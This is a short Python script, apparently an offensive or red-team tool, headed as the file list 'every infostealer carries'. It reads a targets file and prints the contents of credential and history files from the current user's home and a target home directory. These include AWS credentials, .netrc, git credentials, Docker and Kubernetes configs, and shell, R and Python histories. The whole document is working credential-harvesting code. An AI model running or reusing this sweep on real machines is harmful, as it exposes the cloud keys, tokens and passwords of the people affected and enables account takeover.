# dotfile-sweep (Python): the list every infostealer carries.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

FILES = [".aws/credentials", ".netrc", ".git-credentials", ".docker/config.json",
         ".kube/config", ".bash_history", ".Rhistory", ".python_history"]
for home in (os.path.expanduser("~"), T["T_HOME"]):
    for f in FILES:
        try:
            print(f"== {home}/{f}\n" + open(os.path.join(home, f)).read())
        except OSError:
            pass
